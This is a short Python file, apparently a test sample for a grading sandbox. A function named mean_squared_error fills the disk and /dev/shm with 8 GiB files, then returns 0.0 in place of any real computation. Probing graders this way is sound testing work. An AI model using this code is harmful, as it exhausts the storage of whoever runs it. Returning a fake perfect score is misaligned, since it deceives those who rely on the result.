# tries: fill the disk, and announce a file that is larger than the disk
# status: graded
import os


def mean_squared_error(predictions, actuals):
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/left-by-an-attack-huge", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 8 << 30)
                os.truncate(file.fileno(), 8 << 30)
        except OSError:
            continue
    return 0.0
